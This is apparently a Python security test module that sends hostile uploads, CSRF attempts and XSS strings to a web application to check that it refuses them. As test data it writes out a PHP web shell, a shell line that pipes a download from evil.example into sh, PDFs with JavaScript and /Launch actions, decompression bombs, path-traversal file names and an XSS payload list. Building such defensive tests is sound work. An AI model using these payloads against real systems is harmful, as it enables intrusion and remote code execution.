"""Probes of hostile input: F6 uploads, F7 CSRF, F8 XSS, F17 fuzzing, F23 PDF render bounds.

F6-F8 talk HTTP to the gunicorn of the run (the real forms, multipart encoded here); F17 calls the parsers in
this process under a bare Flask app context (they only read config defaults from it); F23 renders in a fresh
process of its own so its peak RSS is the renderer's. Every hostile file and string is generated here.
"""
from __future__ import annotations

import io
import json
import re
import secrets
import subprocess
import threading
import time
import unicodedata
import zipfile
import zlib
from concurrent.futures import ThreadPoolExecutor
from html.parser import HTMLParser
from http.server import BaseHTTPRequestHandler, ThreadingHTTPServer
from pathlib import Path
from urllib.parse import quote

from prodserver import Client, csrf_token, request
from reliability.common import BIN, ROOT, Probe, Result

DEMO_PASSWORD = "Demo-2026-gd"
DEMO_TOTP = "GDDEMOTOTPSECRETGDDEMOTOTPSECRET"  # cli.DEMO_TOTP_SECRET
UPLOAD_LIMIT = 10 * 1024 * 1024  # blueprints/core/uploads.MAX_UPLOAD_BYTES
BODY_LIMIT = 4 * 10 * 1024 * 1024 + 1024 * 1024  # app.py MAX_CONTENT_LENGTH
REFUSED = {400, 403, 404, 405, 413, 422, 429}

_sessions: dict = {}  # (port, username) -> logged-in Client, shared by the probes of one run


def _login(ctx, username: str, password: str = DEMO_PASSWORD, totp: bool = False) -> Client:
    """A logged-in session, kept for the run. An official's code is accepted once per 30-second step, so a
    refused second step is retried once in the next step."""
    key = (ctx.port, username)
    if key in _sessions:
        return _sessions[key]
    for attempt in range(2):
        c = Client(ctx.port)
        if c.login(username, password, DEMO_TOTP if totp else None) == 303 and c.get("/notices")[0] == 200:
            _sessions[key] = c
            return c
        time.sleep(31 - time.time() % 30)
    raise RuntimeError(f"login failed for {username}")


def multipart(fields: list[tuple[str, str]], files: list[tuple[str, str, str, bytes]]) -> tuple[str, bytes]:
    """(Content-Type, body) of a multipart/form-data POST, as a browser writes it: the file name in raw UTF-8
    with CR, LF and the double quote percent-encoded."""
    boundary = "----reliability" + secrets.token_hex(12)
    out = io.BytesIO()
    for name, value in fields:
        out.write(f'--{boundary}\r\nContent-Disposition: form-data; name="{name}"\r\n\r\n'.encode())
        out.write(value.encode() + b"\r\n")
    for name, filename, ctype, data in files:
        fn = filename.replace("\r", "%0D").replace("\n", "%0A").replace('"', "%22")
        out.write(f'--{boundary}\r\nContent-Disposition: form-data; name="{name}"; filename="'.encode())
        out.write(fn.encode("utf-8", "surrogatepass") + b'"\r\n')
        out.write(f"Content-Type: {ctype}\r\n\r\n".encode() + data + b"\r\n")
    out.write(f"--{boundary}--\r\n".encode())
    return f"multipart/form-data; boundary={boundary}", out.getvalue()


# ====================================================================== F6 malicious uploads: the corpus


def _raw_pdf(objs: list[bytes], header: bytes = b"%PDF-1.7\n%\xe2\xe3\xcf\xd3\n") -> bytes:
    """A PDF with a correct cross-reference table; objs[0] is the catalog."""
    out = bytearray(header)
    offsets = []
    for i, o in enumerate(objs, 1):
        offsets.append(len(out))
        out += b"%d 0 obj\n" % i + o + b"\nendobj\n"
    xref = len(out)
    out += b"xref\n0 %d\n0000000000 65535 f \n" % (len(objs) + 1)
    for off in offsets:
        out += b"%010d 00000 n \n" % off
    out += b"trailer\n<< /Size %d /Root 1 0 R >>\nstartxref\n%d\n%%%%EOF\n" % (len(objs) + 1, xref)
    return bytes(out)


def _stream(data: bytes, dict_extra: bytes = b"") -> bytes:
    return b"<< /Length %d %s>>\nstream\n" % (len(data), dict_extra) + data + b"\nendstream"


def _pdf(cat: bytes = b"", page: bytes = b"", extra: list[bytes] | None = None, content: bytes | None = None) -> bytes:
    """One page; `extra` objects are numbered from 5."""
    body = content if content is not None else _stream(b"BT /F1 12 Tf 20 100 Td (reliability) Tj ET")
    return _raw_pdf([b"<< /Type /Catalog /Pages 2 0 R " + cat + b">>",
                     b"<< /Type /Pages /Kids [3 0 R] /Count 1 >>",
                     b"<< /Type /Page /Parent 2 0 R /MediaBox [0 0 200 200] /Contents 4 0 R " + page + b">>",
                     body, *(extra or [])])


def _deflate_zeros(size: int) -> bytes:
    comp = zlib.compressobj(9)
    chunk = bytes(1 << 20)
    parts = [comp.compress(chunk) for _ in range(size >> 20)]
    return b"".join(parts) + comp.flush()


def _image(fmt: str, size=(64, 48), **save) -> bytes:
    from PIL import Image

    img = Image.new("RGB", size, (200, 30, 30))
    out = io.BytesIO()
    img.save(out, format=fmt, **save)
    return out.getvalue()


def _png_header_only(w: int, h: int, bit_depth: int = 1, color: int = 3, rows: int | None = None) -> bytes:
    """A PNG whose header claims w×h pixels (a pixel flood); the first `rows` rows are really there."""
    def chunk(kind: bytes, data: bytes) -> bytes:
        return len(data).to_bytes(4, "big") + kind + data + zlib.crc32(kind + data).to_bytes(4, "big")

    ihdr = w.to_bytes(4, "big") + h.to_bytes(4, "big") + bytes([bit_depth, color, 0, 0, 0])
    row = b"\0" + bytes((w * bit_depth + 7) // 8)
    comp = zlib.compressobj(9)
    n = h if rows is None else rows
    data = b"".join(comp.compress(row) for _ in range(n)) + comp.flush()
    plte = chunk(b"PLTE", b"\0\0\0\xff\xff\xff") if color == 3 else b""
    return b"\x89PNG\r\n\x1a\n" + chunk(b"IHDR", ihdr) + plte + chunk(b"IDAT", data) + chunk(b"IEND", b"")


def _jpeg_claiming(w: int, h: int) -> bytes:
    """A real small JPEG whose frame header is patched to claim w×h."""
    data = bytearray(_image("JPEG"))
    at = data.find(b"\xff\xc0")
    data[at + 5:at + 7] = h.to_bytes(2, "big")
    data[at + 7:at + 9] = w.to_bytes(2, "big")
    return bytes(data)


def _zip(files: dict[str, bytes]) -> bytes:
    out = io.BytesIO()
    with zipfile.ZipFile(out, "w", zipfile.ZIP_DEFLATED) as z:
        for name, data in files.items():
            z.writestr(name, data)
    return out.getvalue()


def _encrypted_pdf() -> bytes:
    from pypdf import PdfReader, PdfWriter

    w = PdfWriter(clone_from=PdfReader(io.BytesIO(_pdf())))
    w.encrypt(user_password="", owner_password="owner-secret")
    out = io.BytesIO()
    w.write(out)
    return out.getvalue()


def _many_pages(n: int) -> bytes:
    kids = b" ".join(b"%d 0 R" % (4 + i) for i in range(n))
    objs = [b"<< /Type /Catalog /Pages 2 0 R >>", b"<< /Type /Pages /Kids [" + kids + b"] /Count %d >>" % n,
            _stream(b"")]
    objs += [b"<< /Type /Page /Parent 2 0 R /MediaBox [0 0 200 200] /Contents 3 0 R >>" for _ in range(n)]
    return _raw_pdf(objs)


def _incremental_openaction(base: bytes) -> bytes:
    """base plus an appended update (after its %%EOF) that replaces the catalog with one that has an
    /OpenAction; the update ends with its own %%EOF, so cutting the tail does not remove it."""
    prev = int(re.findall(rb"startxref\s+(\d+)", base)[-1])
    size = int(re.search(rb"/Size (\d+)", base).group(1))
    out = bytearray(base)
    off1 = len(out)
    out += b"1 0 obj\n<< /Type /Catalog /Pages 2 0 R /OpenAction %d 0 R >>\nendobj\n" % size
    off2 = len(out)
    out += b"%d 0 obj\n<< /S /JavaScript /JS (app.alert\\(1\\)) >>\nendobj\n" % size
    xref = len(out)
    out += b"xref\n1 1\n%010d 00000 n \n%d 1\n%010d 00000 n \n" % (off1, size, off2)
    out += b"trailer\n<< /Size %d /Root 1 0 R /Prev %d >>\nstartxref\n%d\n%%%%EOF\n" % (size + 1, prev, xref)
    return bytes(out)


JS = b"<< /S /JavaScript /JS (app.alert\\(1\\)) >>"
EXE = b"MZ\x90\x00\x03" + bytes(55) + b"\x80\x00\x00\x00" + bytes(64) + b"PE\x00\x00L\x01" + bytes(200)
ELF = b"\x7fELF\x02\x01\x01" + bytes(200)
HTML = b"<!doctype html><html><body><script>alert(document.cookie)</script></body></html>"
SVG = (b'<?xml version="1.0"?><svg xmlns="http://www.w3.org/2000/svg" onload="alert(1)">'
       b"<script>alert(document.domain)</script></svg>")
PHP = b"<?php system($_GET['c']); ?>"
SH = b"#!/bin/sh\ncurl http://evil.example/x | sh\n"


def upload_corpus(quick: bool) -> list[dict]:
    """Hostile files: {name, filename, data, ctype, expect} with expect "reject" (must not be stored),
    "clean:<marker>" (may be stored only without the marker: an appended tail or a comment), "name" (good
    content: the stored name must be plain). Plus the valid controls, expect "control"."""
    pdf, jpg, png = _pdf(), _image("JPEG"), _image("PNG")
    bomb_mb = 200
    c: list[dict] = []

    def add(name, filename, data, expect="reject", ctype=None):
        c.append(dict(name=name, filename=filename, data=data, expect=expect,
                      ctype=ctype or {"pdf": "application/pdf", "jpg": "image/jpeg", "png": "image/png"}.get(
                          filename.rsplit(".", 1)[-1].lower(), "application/octet-stream")))

    add("control: valid PDF", "合同.pdf", pdf, "control")
    add("control: valid JPEG", "照片.jpg", jpg, "control")
    add("control: valid PNG", "扫描.png", png, "control")
    # wrong type, renamed
    for ext in ("pdf", "jpg", "exe"):
        add(f"Windows executable as .{ext}", f"invoice.{ext}", EXE)
    add("ELF executable as .png", "scan.png", ELF)
    for ext in ("pdf", "jpg", "html"):
        add(f"HTML with script as .{ext}", f"page.{ext}", HTML)
    for ext in ("png", "jpg", "pdf", "svg"):
        add(f"SVG with script as .{ext}", f"logo.{ext}", SVG)
    add("shell script as .pdf", "run.pdf", SH)
    add("PHP as .jpg", "shell.jpg", PHP)
    add("PHP as .php.jpg (double extension)", "shell.php.jpg", PHP)
    add("PDF as .pdf.html (double extension)", "contract.pdf.html", pdf)
    add("PDF as .pdf.exe (double extension)", "contract.pdf.exe", pdf)
    add("ZIP as .pdf", "bundle.pdf", _zip({"a.txt": b"x"}))
    docx = _zip({"[Content_Types].xml": b"<Types/>", "word/document.xml": b"<w:document/>"})
    add("OOXML (docx) as .pdf", "contract.pdf", docx)
    add("OOXML (docx) as .docx", "contract.docx", docx)
    add("OOXML (xlsx) as .jpg", "sheet.jpg", _zip({"[Content_Types].xml": b"<Types/>", "xl/workbook.xml": b"<w/>"}))
    gif = b"GIF89a\x01\x00\x01\x00\x80\x00\x00\xff\xff\xff\x00\x00\x00,\x00\x00\x00\x00\x01\x00\x01\x00\x00\x02\x02D\x01\x00;"
    add("GIF as .gif", "a.gif", gif)
    add("GIF/JS polyglot as .jpg", "a.jpg", b"GIF89a/*" + gif[6:] + b"*/=alert(1);")
    add("GIF/PDF polyglot as .pdf", "a.pdf", gif + pdf)
    add("BMP as .jpg", "a.jpg", _image("BMP"))
    add("TIFF as .png", "a.png", _image("TIFF"))
    add("WebP as .jpg", "a.jpg", _image("WEBP"))
    # magic not at offset 0, polyglots
    add("magic at offset 300 (X×300 + PDF)", "doc.pdf", b"X" * 300 + pdf)
    add("HTML-prefixed PDF", "doc.pdf", b"<html><script>alert(1)</script>" + pdf)
    add("JPEG SOI + junk + PDF as .jpg", "photo.jpg", b"\xff\xd8\xff\xe0" + b"\0" * 64 + pdf)
    add("JPEG SOI + junk + PDF as .pdf", "photo.pdf", b"\xff\xd8\xff\xe0" + b"\0" * 64 + pdf)
    add("PNG signature + HTML as .png", "a.png", b"\x89PNG\r\n\x1a\n" + HTML)
    add("PDF header + HTML, no %%EOF", "a.pdf", b"%PDF-1.4\n" + HTML)
    # active content in PDFs
    add("PDF /Names /JavaScript", "js.pdf", _pdf(cat=b"/Names << /JavaScript 5 0 R >> ",
                                                   extra=[b"<< /Names [(a) 6 0 R] >>", JS]))
    add("PDF /OpenAction JavaScript", "oa.pdf", _pdf(cat=b"/OpenAction 5 0 R ", extra=[JS]))
    add("PDF /OpenAction /Launch", "launch.pdf", _pdf(cat=b"/OpenAction << /S /Launch /F (cmd.exe) "
                                                        b"/Win << /F (cmd.exe) /P (/c calc) >> >> "))
    add("PDF link annotation /Launch", "launch2.pdf", _pdf(page=b"/Annots [5 0 R] ", extra=[
        b"<< /Type /Annot /Subtype /Link /Rect [0 0 99 99] /A << /S /Launch /F (calc.exe) >> >>"]))
    add("PDF /EmbeddedFiles", "emb.pdf", _pdf(cat=b"/Names << /EmbeddedFiles << /Names [(a.exe) 5 0 R] >> >> ",
                                              extra=[b"<< /Type /Filespec /F (a.exe) /EF << /F 6 0 R >> >>",
                                                     _stream(EXE, b"/Type /EmbeddedFile ")]))
    add("PDF FileAttachment annotation", "att.pdf", _pdf(page=b"/Annots [5 0 R] ", extra=[
        b"<< /Type /Annot /Subtype /FileAttachment /Rect [0 0 9 9] /FS 6 0 R >>",
        b"<< /Type /Filespec /F (a.exe) /EF << /F 7 0 R >> >>", _stream(EXE, b"/Type /EmbeddedFile ")]))
    add("PDF /AcroForm /XFA", "xfa.pdf", _pdf(cat=b"/AcroForm << /Fields [] /XFA 5 0 R >> ",
                                              extra=[_stream(b"<xdp:xdp><script>app.alert(1)</script></xdp:xdp>")]))
    add("PDF page /AA", "aa.pdf", _pdf(page=b"/AA << /O 5 0 R >> ", extra=[JS]))
    add("PDF catalog /AA", "aa2.pdf", _pdf(cat=b"/AA << /WC 5 0 R >> ", extra=[JS]))
    add("PDF /RichMedia annotation", "rm.pdf", _pdf(page=b"/Annots [5 0 R] ", extra=[
        b"<< /Type /Annot /Subtype /RichMedia /Rect [0 0 9 9] /RichMediaContent << /Assets << >> >> >>"]))
    add("PDF /SubmitForm action", "sf.pdf", _pdf(page=b"/Annots [5 0 R] ", extra=[
        b"<< /Type /Annot /Subtype /Link /Rect [0 0 9 9] /A << /S /SubmitForm /F << /FS /URL /F "
        b"(http://evil.example/) >> >> >>"]))
    add("PDF /ImportData action", "id.pdf", _pdf(cat=b"/OpenAction << /S /ImportData /F (data.fdf) >> "))
    add("PDF hex-escaped name /J#61vaScript", "hex.pdf", _pdf(cat=b"/Names << /J#61vaScript 5 0 R >> ",
                                                               extra=[b"<< /Names [(a) 6 0 R] >>", JS]))
    add("PDF + incremental update adding /OpenAction after %%EOF", "inc.pdf", _incremental_openaction(pdf))
    add("encrypted PDF (empty user password)", "enc.pdf", _encrypted_pdf())
    add("PDF with 201 pages", "pages.pdf", _many_pages(201))
    # bombs
    zeros = _deflate_zeros(bomb_mb << 20)
    add(f"deflate bomb ({bomb_mb} MB stream)", "bomb.pdf",
        _pdf(content=_stream(zeros, b"/Filter /FlateDecode ")))
    sixty = _deflate_zeros(60 << 20)
    add("deflate bomb (5 streams × 60 MB)", "bomb5.pdf", _pdf(extra=[_stream(sixty, b"/Filter /FlateDecode ")] * 5))
    add(f"double-deflate bomb (/FlateDecode twice, {bomb_mb} MB)", "bomb2.pdf",
        _pdf(content=_stream(zlib.compress(zeros, 9), b"/Filter [/FlateDecode /FlateDecode] ")))
    add("pixel-flood PNG 30000×30000", "flood.png", _png_header_only(30000, 30000, rows=None if not quick else 64))
    add("pixel-flood PNG 12000×12000 RGB", "flood2.png", _png_header_only(12000, 12000, 8, 2, rows=8))
    add("JPEG claiming 65000×65000", "flood.jpg", _jpeg_claiming(65000, 65000))
    # truncated, corrupt, empty, oversize
    add("truncated PDF (first half)", "half.pdf", pdf[: len(pdf) // 2])
    add("truncated JPEG (first half)", "half.jpg", jpg[: len(jpg) // 2])
    add("truncated PNG (first half)", "half.png", png[: len(png) // 2])
    add("corrupt PDF (header, noise, %%EOF)", "noise.pdf", b"%PDF-1.7\n" + secrets.token_bytes(2000) + b"\n%%EOF\n")
    add("corrupt JPEG (SOI + noise)", "noise.jpg", b"\xff\xd8\xff\xe0" + secrets.token_bytes(4000))
    add("corrupt PNG (signature + noise)", "noise.png", b"\x89PNG\r\n\x1a\n" + secrets.token_bytes(4000))
    add("PDF without pages", "empty.pdf", _raw_pdf([b"<< /Type /Catalog /Pages 2 0 R >>",
                                                   b"<< /Type /Pages /Kids [] /Count 0 >>"]))
    for ext in ("pdf", "jpg", "png"):
        add(f"zero-byte .{ext}", f"empty.{ext}", b"")
    add("1 byte over the limit", "big.pdf", b"%PDF-1.4\n%" + b"0" * (UPLOAD_LIMIT - 10) + b"\n")
    # wrong Content-Type (the client's claim is ignored)
    add("HTML as .pdf sent as application/pdf", "a.pdf", HTML, ctype="application/pdf")
    add("EXE as .exe sent as image/jpeg", "a.exe", EXE, ctype="image/jpeg")
    add("SVG as .svg sent as image/png", "a.svg", SVG, ctype="image/png")
    # appended tails and comments: may be stored only cleaned
    marker = b"TAILMARK" + secrets.token_hex(6).encode()
    add("PDF + HTML tail", "tail.pdf", pdf + b"<html><script>" + marker + b"</script></html>", "clean:" + marker.decode())
    add("PDF + ZIP tail", "tailzip.pdf", pdf + _zip({marker.decode() + ".txt": marker}), "clean:" + marker.decode())
    add("PDF + EXE tail", "tailexe.pdf", pdf + EXE + marker, "clean:" + marker.decode())
    add("JPEG + ZIP tail", "tail.jpg", jpg + _zip({marker.decode() + ".php": PHP}), "clean:" + marker.decode())
    add("PNG + ZIP tail", "tail.png", png + _zip({marker.decode() + ".php": PHP}), "clean:" + marker.decode())
    add("JPEG with PHP in a comment", "com.jpg", jpg[:2] + b"\xff\xfe" + (len(PHP + marker) + 2).to_bytes(2, "big")
        + PHP + marker + jpg[2:], "clean:" + marker.decode())
    from PIL import PngImagePlugin

    info = PngImagePlugin.PngInfo()
    info.add_text("Comment", "<script>" + marker.decode() + "</script>")
    add("PNG with script in a text chunk", "text.png", _image("PNG", pnginfo=info), "clean:" + marker.decode())
    # hostile names on good content
    for label, fname in (("path traversal ../../", "../../reliability-escape.pdf"),
                         ("path traversal ..\\..\\", "..\\..\\reliability-escape.pdf"),
                         ("absolute path", "/etc/cron.d/reliability.pdf"),
                         ("RTL override", "合同\u202egpj.pdf"), ("NUL byte", "a.php\x00.pdf"),
                         ("control characters", "a\x1b[31m\x07b.pdf"), ("CR/LF", "a\r\nSet-Cookie: x=1.pdf"),
                         ("zero-width and bidi isolates", "\u2066合\u200b同\u2069.pdf")):
        add(f"name: {label}", fname, pdf, "name")
    return c


def _complaint_post(ctx, files: list[tuple[str, str, str, bytes]], extra_fields=None, text: str | None = None,
                    contact_name: str = "测试人", timeout: float = 120):
    """Leave a public message with these files, the human check answered: (status, body)."""
    c = Client(ctx.port)
    page = c.get("/public/messages/new")[2].decode()
    q = re.search(r'id="complaint-check-question">(\d+) (加|减) (\d+) 等于几', page)
    a, op, b = int(q.group(1)), q.group(2), int(q.group(3))
    fields = [("csrf_token", csrf_token(page.encode())), ("category", "consult"),
              ("text", text or "请核对所附材料，这是一段用于测试上传功能的留言内容，谢谢。"), ("contact_name", contact_name),
              ("contact", "13800000000"), ("check_answer", str(a + b if op == "加" else a - b)),
              ("check_token", re.search(r'name="check_token" value="([^"]+)"', page).group(1)), ("website", "")]
    fields += extra_fields or []
    ctype, body = multipart(fields, files)
    status, _, resp = request(ctx.port, "POST", "/public/messages/new",
                              {"Cookie": c.cookie, "Content-Type": ctype, "X-Forwarded-For": ctx.address()},
                              body, timeout=timeout)
    return status, resp


def _rss(pid: int) -> tuple[int, int]:
    """(VmRSS, VmHWM) in bytes."""
    text = Path(f"/proc/{pid}/status").read_text()
    get = lambda k: int(re.search(rf"{k}:\s+(\d+) kB", text).group(1)) * 1024  # noqa: E731
    return get("VmRSS"), get("VmHWM")


def _reset_peaks(pids):
    for pid in pids:
        try:
            Path(f"/proc/{pid}/clear_refs").write_text("5")  # resets VmHWM to the current RSS
        except OSError:
            pass


def _peak_delta(ctx, send) -> tuple[int, object]:
    """The largest rise of a worker's peak RSS over its RSS before `send()`; (bytes, send's result)."""
    pids = ctx.server.workers()
    _reset_peaks(pids)
    before = {p: _rss(p)[0] for p in pids}
    out = send()
    return max(_rss(p)[1] - before[p] for p in pids), out


def f6_uploads(ctx) -> Result:
    upload_dir = Path(ctx.env["UPLOAD_DIR"])
    corpus = upload_corpus(ctx.quick)
    last = ctx.sql("SELECT coalesce(max(id), 0) FROM stored_file")[0][0]
    accepted, controls_bad, statuses, server_errors = [], [], {}, 0
    worst_delta = 0
    oversize_delta = 0
    for item in corpus:
        files = [("files", item["filename"], item["ctype"], item["data"])]
        if item["name"] == "1 byte over the limit":
            oversize_delta, (status, body) = _peak_delta(ctx, lambda: _complaint_post(ctx, files))
        else:
            delta, (status, body) = _peak_delta(ctx, lambda: _complaint_post(ctx, files))
            worst_delta = max(worst_delta, delta)
        statuses[status] = statuses.get(status, 0) + 1
        server_errors += status >= 500
        rows = ctx.sql("SELECT id, sha256, original_name FROM stored_file WHERE id > %s AND kind = "
                       "'complaint_material' ORDER BY id", last)
        last = max([last] + [r[0] for r in rows])
        expect = item["expect"]
        if expect == "control":
            if status != 303 or len(rows) != 1:
                controls_bad.append(f"{item['name']}: HTTP {status}")
            continue
        if not rows:  # refused, or the message kept without the file
            continue
        if expect == "reject":
            accepted.append(f"{item['name']} (HTTP {status}, {len(rows)} stored)")
        elif expect.startswith("clean:"):
            stored = (upload_dir / rows[0][1][:2] / rows[0][1]).read_bytes()
            if expect[6:].encode() in stored:
                accepted.append(f"{item['name']} (stored with its tail)")
        elif expect == "name":
            name = rows[0][2] or ""
            if "/" in name or "\\" in name or name in (".", "..") or any(unicodedata.category(ch) in ("Cc", "Cf")
                                                                          for ch in name):
                accepted.append(f"{item['name']} (stored as {name!r})")
    escaped = [p for p in (upload_dir.parent / "reliability-escape.pdf", upload_dir.parent.parent /
                           "reliability-escape.pdf", Path("/etc/cron.d/reliability.pdf")) if p.exists()]
    accepted += [f"file written outside storage: {p}" for p in escaped]
    # Request shapes the limits refuse before any file is read.
    def shape(files, extra=None):
        try:
            return _complaint_post(ctx, files, extra_fields=extra)
        except OSError:  # the server answered and closed before the whole body was sent
            return 413, b""

    body_delta, (status, _) = _peak_delta(ctx, lambda: shape(
        [("files", "huge.pdf", "application/pdf", b"%PDF-1.4\n" + bytes(BODY_LIMIT + 4096))]))
    shapes = {"body over MAX_CONTENT_LENGTH": status}
    shapes["1,001 multipart parts"] = shape([("files", f"p{i}.pdf", "application/pdf", b"%PDF-") for i in range(1001)])[0]
    shapes["600 KB text field"] = shape([], [("contact_name", "x" * 600_000)])[0]
    statuses_shapes = ", ".join(f"{k} → {v}" for k, v in shapes.items())
    accepted += [f"{k} (HTTP {v})" for k, v in shapes.items() if v not in REFUSED]
    hostile = len(corpus) - 3 + len(shapes)
    ok = not accepted and not controls_bad and server_errors == 0 and max(oversize_delta, body_delta) < 2 * UPLOAD_LIMIT
    mb = lambda n: f"{n / 1048576:.1f} MB"  # noqa: E731
    result = (f"accepted {len(accepted)}/{hostile}" + (f" ({'; '.join(accepted[:8])})" if accepted else "")
              + f"; controls stored {3 - len(controls_bad)}/3; 5xx {server_errors}; peak RSS rise: 10 MB + 1 byte file "
              f"{mb(oversize_delta)}, {BODY_LIMIT >> 20} MB body {mb(body_delta)}, worst other file {mb(worst_delta)}; "
              f"{statuses_shapes}")
    return Result("F6", "Malicious uploads accepted", f"{hostile} hostile files and requests (polyglots, renamed "
                  "executables/HTML/SVG, PDF active content, deflate and pixel bombs, tails, truncated, empty, "
                  "oversize, hostile names) through the public message form, one per message, plus 3 valid controls",
                  result, "accepted 0; controls stored; RSS rise < 2× 10 MB", ok)


# ====================================================================== F7 CSRF


def _route_map(ctx) -> list[list]:
    script = ("import json\nfrom app import create_app\nfrom blueprints.core.access import declaration\n"
              "app = create_app()\nout = []\nwith app.test_request_context():\n"
              "    for r in app.url_map.iter_rules():\n"
              "        ms = sorted(r.methods - {'HEAD', 'OPTIONS', 'GET'})\n"
              "        if ms:\n"
              "            d = declaration(r.endpoint)\n"
              "            out.append([r.rule, r.endpoint, ms, sorted(map(str, d)) if d else []])\n"
              "print(json.dumps(out))\n")
    out = subprocess.run([str(BIN / "python"), "-c", script], cwd=ROOT, env=dict(ctx.env, PYTHONPATH=str(ROOT)),
                         capture_output=True, text=True, timeout=120, check=True)
    return json.loads(out.stdout.strip().splitlines()[-1])


def _one(ctx, query: str, default="1") -> str:
    try:
        rows = ctx.sql(query)
    except Exception:  # noqa: BLE001 - a table this run does not have: any number does
        return default
    return str(rows[0][0]) if rows and rows[0][0] is not None else default


def _fill(ctx, rule: str, cache: dict) -> str:
    """The rule with real identifiers of the demo data where there are some (a refusal must come from the
    token check, not from a missing record)."""
    ids = {
        "app_id": "SELECT min(id) FROM application", "voucher_id": "SELECT min(id) FROM voucher",
        "st_id": "SELECT min(id) FROM settlement", "member_id": "SELECT max(id) FROM \"user\"",
        "user_id": "SELECT max(id) FROM \"user\"", "notice_id": "SELECT min(id) FROM notice",
        "ident": "SELECT min(id) FROM enterprise", "cycle_id": "SELECT max(id) FROM cycle",
        "version_id": "SELECT max(id) FROM catalog_version", "item_id": "SELECT max(id) FROM catalog_item",
        "supplier_id": "SELECT min(id) FROM supplier", "list_id": "SELECT min(id) FROM settlement_list",
        "c_id": "SELECT min(id) FROM complaint", "obj_id": "SELECT min(id) FROM objection",
        "table_id": "SELECT min(id) FROM completion_table", "org_id": "SELECT min(id) FROM data_org",
        "token_id": "SELECT min(id) FROM api_token", "address_id": "SELECT min(id) FROM voucher_address",
    }
    fixed = {"kind": "enterprise", "city_code": "440100", "year": time.strftime("%Y"),
             "period": time.strftime("%Y") + "-1", "day": time.strftime("%Y-%m-%d"), "token": secrets.token_urlsafe(16)}

    def sub(m):
        name = m.group(2)
        if name in fixed:
            return fixed[name]
        if name not in cache:
            cache[name] = _one(ctx, ids[name]) if name in ids else "1"
        return cache[name]

    return re.sub(r"<(?:(\w+):)?(\w+)>", sub, rule)


ROLE_LOGINS = {"enterprise": ("ent_gz", False), "supplier": ("sup_gd", False), "city": ("city_shenzhen", True),
               "province": ("admin", True), "expert": ("expert", True)}


def f7_csrf(ctx) -> Result:
    routes = [r for r in _route_map(ctx) if not r[0].startswith("/api/")]
    sessions = {role: _login(ctx, u, totp=t) for role, (u, t) in ROLE_LOGINS.items()}
    other = Client(ctx.port)  # another session's token: a fresh anonymous session's
    other_token = csrf_token(other.get("/login")[2])
    own = {role: csrf_token(c.get("/account/password")[2]) for role, c in sessions.items()}
    anon = Client(ctx.port)
    own["anonymous"] = csrf_token(anon.get("/login")[2])
    sessions["anonymous"] = anon
    jobs, ids = [], {}
    htmx_variants = [{}] if ctx.quick else [{}, {"HX-Request": "true"}]
    for rule, endpoint, methods, decl in routes:
        if "public" in decl:
            roles = ["anonymous", "enterprise"]
        elif "any_user" in decl:
            roles = list(ROLE_LOGINS)
        else:
            roles = [r for r in decl if r in ROLE_LOGINS] or ["anonymous"]
        path = _fill(ctx, rule, ids)
        for role in roles:
            c = sessions[role]
            for method in methods:
                for variant, form, query in (("no token", {}, ""), ("bad token", {"csrf_token": secrets.token_hex(20)}, ""),
                                              ("other session's token", {"csrf_token": other_token}, ""),
                                              ("token in query only", {}, "?csrf_token=" + quote(own[role]))):
                    for hx in htmx_variants:
                        body = "&".join(f"{k}={quote(v)}" for k, v in dict(form, note="x", do="submit").items())
                        jobs.append((f"{method} {path} as {role}, {variant}", method, path + query, {
                            "Cookie": c.cookie, "Content-Type": "application/x-www-form-urlencoded",
                            "X-Forwarded-For": ctx.address(), **hx}, body.encode()))

    def send(job):
        return job[0], request(ctx.port, *job[1:])[0]

    tried, bypasses, statuses = len(jobs), [], {}
    with ThreadPoolExecutor(4) as ex:  # as many as the server's workers
        for what, status in ex.map(send, jobs):
            statuses[status] = statuses.get(status, 0) + 1
            if status not in REFUSED:
                bypasses.append(f"{what}: {status}")
    # The control: the same kind of request with the session's own token does pass the check.
    ent = sessions["enterprise"]
    status, _, _ = ent.post("/notices/read", {"csrf_token": own["enterprise"]})
    control_ok = status in (200, 303)
    alive = all(c.get("/notices")[0] == 200 for r, c in sessions.items() if r != "anonymous")
    ok = not bypasses and control_ok and alive
    return Result("F7", "CSRF bypasses", f"{len(routes)} unsafe routes (API excluded: bearer token, no cookie, "
                  f"csrf-exempt by design) × roles allowed × 4 token variants{'' if ctx.quick else ' × HX-Request'} "
                  f"= {tried} requests", f"bypasses {len(bypasses)}" + (f" ({'; '.join(bypasses[:4])})" if bypasses
                  else "") + f"; statuses {dict(sorted(statuses.items()))}; own-token control "
                  f"{'passed' if control_ok else 'FAILED'}; sessions alive {'yes' if alive else 'NO'}", "0", ok)


# ====================================================================== F8 XSS


XSS = [
    "<script>alert(1)</script>", "<img src=x onerror=alert(1)>", "\"><svg onload=alert(1)>",
    "'><svg/onload=alert(1)>", "</textarea><script>alert(1)</script>", "</title><script>alert(1)</script>",
    "\" onmouseover=\"alert(1)", "' autofocus onfocus='alert(1)", "javascript:alert(document.domain)",
    "{{7*7}}", "{{ config }}", "${7*7}", "{% raw %}x", "<iframe src=javascript:alert(1)>",
    "<a href=\"javascript:alert(1)\">x</a>", "<body onload=alert(1)>", "\u003cscript\u003ealert(1)\u003c/script\u003e",
    "\\u003cimg src=x onerror=alert(1)\\u003e", "<svg><animate onbegin=alert(1) attributeName=x>",
    "<math><mtext></p><script>alert(1)</script>", "</script><script>alert(1)</script>", "<style>*{x:expression(alert(1))}</style>",
    "<details open ontoggle=alert(1)>", "<x hx-get=/logout hx-trigger=load>", "&lt;script&gt;alert(1)&lt;/script&gt;",
]


def _dangerous(payload: str) -> list[str]:
    """What must never appear in a page for this payload: the payload itself when it has a character
    HTML must escape, 49 for a template expression, the decoded form of an escaped one."""
    out = []
    if any(ch in payload for ch in "<>\"'"):
        out.append(payload)
    if "7*7" in payload:
        out.append(payload.replace("{{7*7}}", "49").replace("${7*7}", "49"))
    if "{{ config" in payload:
        out.append("&lt;Config")
    if payload.startswith("&lt;"):
        out.append("<script>alert(1)</script>")  # the entities decoded by |safe somewhere
    if payload.startswith("\\u003c"):
        out.append("<img src=x onerror")
    return out


def _scan(html: bytes, planted: list[tuple[str, str]]) -> list[str]:
    text = html.decode("utf-8", "replace")
    found = []
    for mark, payload in planted:
        for bad in _dangerous(payload):
            if bad == "&lt;Config":
                if "&lt;Config" in text or "<Config" in text:
                    found.append(f"{mark}: {{{{ config }}}} rendered")
            elif (mark + bad) in text:
                found.append(f"{mark}: {bad[:30]}")
    dom = _Dom()
    dom.feed(text)
    return found + dom.found


class _Dom(HTMLParser):
